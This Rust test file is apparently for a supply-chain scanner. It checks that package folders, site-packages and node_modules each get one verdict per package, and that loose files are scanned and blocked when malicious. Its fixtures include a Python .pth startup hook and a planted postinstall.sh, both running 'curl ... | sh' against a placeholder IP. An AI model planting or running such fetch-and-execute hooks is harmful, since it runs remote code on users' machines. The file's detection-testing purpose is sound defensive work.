#![allow(clippy::unwrap_used)]
//! A folder that holds many packages is a set of targets (#17 item 4): package folders side by side
//! (npm, PyPI and a skill mixed), a `site-packages` with an egg-info distribution, and in every layout
//! the files that belong to no package, which are scanned as one more target. The exit code is the worst
//! verdict, the text table lists what is not allow first, and every output format names each package.

mod project_support;

use project_support::{skill_scan, text, verdicts, EVIL_HOOK};
use std::fs;
use std::path::Path;

fn write(path: &Path, content: &str) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, content).unwrap();
}

fn npm_package(dir: &Path, name: &str, postinstall: Option<&str>) {
    let mut manifest = serde_json::json!({"name": name, "version": "1.0.0", "main": "index.js"});
    if let Some(script) = postinstall {
        manifest["scripts"] = serde_json::json!({"postinstall": script});
    }
    write(&dir.join("package.json"), &manifest.to_string());
    write(&dir.join("index.js"), "module.exports = (a, b) => a + b;\n");
}

/// A startup hook Python runs at every interpreter start: a download piped into a shell.
const EVIL_PTH: &str = "import os; os.system('curl -s http://203.0.113.7/x.sh | sh')\n";

/// `vendor/`: two npm packages (one with a fetch-and-run install hook), a Python sdist, a skill, and a
/// loose script beside them.
fn packages_folder(root: &Path) {
    let vendor = root.join("vendor");
    npm_package(&vendor.join("adder-1.0.0"), "adder", None);
    npm_package(&vendor.join("hooked-1.0.0"), "hooked", Some(EVIL_HOOK));
    write(
        &vendor.join("tablekit-2.0/PKG-INFO"),
        "Metadata-Version: 2.1\nName: tablekit\nVersion: 2.0\n",
    );
    write(
        &vendor.join("tablekit-2.0/setup.py"),
        "from setuptools import setup\nsetup(name='tablekit', version='2.0')\n",
    );
    write(
        &vendor.join("notes/SKILL.md"),
        "---\nname: notes\ndescription: Keeps meeting notes.\n---\n\nWrite the notes the user dictates to notes/DATE.md.\n",
    );
    write(
        &vendor.join("README.md"),
        "Packages kept for offline builds.\n",
    );
}

#[test]
fn a_folder_of_packages_gives_one_verdict_per_package_and_keeps_loose_files() {
    let dir = tempfile::tempdir().unwrap();
    packages_folder(dir.path());
    let out = skill_scan(dir.path(), &[], &["vendor", "--format", "json"]);
    let (json, verdicts) = verdicts(&out);
    assert_eq!(verdicts.len(), 5, "{verdicts:?}");
    assert_eq!(verdicts["vendor/adder-1.0.0"], "allow");
    assert_eq!(verdicts["vendor/hooked-1.0.0"], "block");
    assert_eq!(verdicts["vendor/tablekit-2.0"], "allow");
    assert_eq!(verdicts["vendor/notes"], "allow");
    // The README belongs to no package: it is scanned as the folder's own target, with only itself.
    assert_eq!(verdicts["vendor"], "allow");
    let loose = json["targets"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["target"] == "vendor")
        .unwrap();
    assert_eq!(loose["files_scanned"], 1);
    assert_eq!(
        out.status.code(),
        Some(1),
        "the worst verdict sets the exit"
    );

    // The text table: the blocked package is the first row, the loose files have a row of their own.
    let out = skill_scan(dir.path(), &[], &["vendor"]);
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("vendor (packages folder): 5 package(s), verdict block"),
        "{stdout}"
    );
    let rows: Vec<&str> = stdout
        .lines()
        .skip_while(|l| !l.contains("NAME"))
        .skip(1)
        .take(5)
        .collect();
    assert!(
        rows[0].contains("hooked") && rows[0].contains("block"),
        "{stdout}"
    );
    assert!(
        rows.iter().any(|r| r.contains("(files of no package)")),
        "{stdout}"
    );

    // Every format names each package's own target.
    for format in ["sarif", "markdown"] {
        let out = skill_scan(dir.path(), &[], &["vendor", "--format", format]);
        assert_eq!(out.status.code(), Some(1));
        let body = text(&out.stdout);
        for name in ["hooked-1.0.0", "adder-1.0.0", "tablekit-2.0", "notes"] {
            assert!(body.contains(name), "{format} lacks {name}: {body}");
        }
    }
}

#[test]
fn one_package_in_a_wrapper_folder_stays_one_target() {
    let dir = tempfile::tempdir().unwrap();
    npm_package(&dir.path().join("download/adder-1.0.0"), "adder", None);
    write(&dir.path().join("download/notes.txt"), "fetched by hand\n");
    let out = skill_scan(dir.path(), &[], &["download", "--format", "json"]);
    let (_, verdicts) = verdicts(&out);
    assert_eq!(verdicts.keys().collect::<Vec<_>>(), ["download"]);
}

#[test]
fn site_packages_files_no_distribution_lists_are_scanned() {
    let dir = tempfile::tempdir().unwrap();
    let site = dir.path().join("site-packages");
    // An egg-info distribution: its files from installed-files.txt (relative to the egg-info folder).
    write(&site.join("oldlib/__init__.py"), "def f():\n    return 1\n");
    write(
        &site.join("oldlib/__pycache__/__init__.cpython-312.pyc"),
        "\0\0",
    );
    write(
        &site.join("oldlib-0.9-py3.12.egg-info/PKG-INFO"),
        "Metadata-Version: 1.1\nName: oldlib\nVersion: 0.9\n",
    );
    write(
        &site.join("oldlib-0.9-py3.12.egg-info/installed-files.txt"),
        "../oldlib/__init__.py\n../oldlib/__pycache__/__init__.cpython-312.pyc\nPKG-INFO\n",
    );
    // A module named only by top_level.txt (no installed-files.txt).
    write(&site.join("tiny.py"), "X = 1\n");
    write(
        &site.join("tiny-1.0.egg-info/PKG-INFO"),
        "Metadata-Version: 1.1\nName: tiny\nVersion: 1.0\n",
    );
    write(&site.join("tiny-1.0.egg-info/top_level.txt"), "tiny\n");
    // A startup hook that no distribution claims: what an attacker drops after the install.
    write(&site.join("zz-hook.pth"), EVIL_PTH);
    write(&site.join("__pycache__/stray.cpython-312.pyc"), "\0\0");

    let out = skill_scan(dir.path(), &[], &["site-packages", "--format", "json"]);
    let (json, verdicts) = verdicts(&out);
    assert_eq!(verdicts.len(), 3, "{verdicts:?}");
    assert_eq!(verdicts["site-packages/oldlib-0.9-py3.12"], "allow");
    assert_eq!(verdicts["site-packages/tiny-1.0"], "allow");
    assert_eq!(verdicts["site-packages"], "block", "{verdicts:?}");
    let targets = json["targets"].as_array().unwrap();
    let of = |target: &str| targets.iter().find(|t| t["target"] == target).unwrap();
    // oldlib: its module and its egg-info's own file; the bytecode is neither read nor loose.
    assert_eq!(of("site-packages/oldlib-0.9-py3.12")["files_scanned"], 3);
    assert_eq!(of("site-packages/tiny-1.0")["files_scanned"], 3);
    let loose = of("site-packages");
    assert_eq!(loose["files_scanned"], 1, "only the hook: {loose}");
    assert!(loose["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["path"] == "zz-hook.pth"));
    assert_eq!(out.status.code(), Some(1));
}

#[test]
fn node_modules_loose_files_are_scanned_and_bin_links_are_their_packages() {
    let dir = tempfile::tempdir().unwrap();
    let modules = dir.path().join("node_modules");
    npm_package(&modules.join("adder"), "adder", None);
    write(
        &modules.join(".package-lock.json"),
        "{\"lockfileVersion\": 3}\n",
    );
    #[cfg(unix)]
    {
        fs::create_dir_all(modules.join(".bin")).unwrap();
        std::os::unix::fs::symlink("../adder/index.js", modules.join(".bin/adder")).unwrap();
    }
    let out = skill_scan(dir.path(), &[], &["node_modules", "--format", "json"]);
    let (json, verdicts) = verdicts(&out);
    assert_eq!(verdicts.len(), 2, "{verdicts:?}");
    let loose = json["targets"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["target"] == "node_modules")
        .unwrap();
    // The hidden lockfile is loose; the link in .bin is adder's own script, scanned with adder.
    assert_eq!(loose["files_scanned"], 1, "{loose}");

    // A script planted beside the packages is found and sets the verdict.
    write(
        &modules.join(".hooks/postinstall.sh"),
        "#!/bin/sh\ncurl -s http://203.0.113.7/x.sh | sh\n",
    );
    let out = skill_scan(dir.path(), &[], &["node_modules", "--format", "json"]);
    let (_, verdicts) = project_support::verdicts(&out);
    assert_ne!(verdicts["node_modules"], "allow", "{verdicts:?}");
    assert_eq!(verdicts["node_modules/adder"], "allow");
}
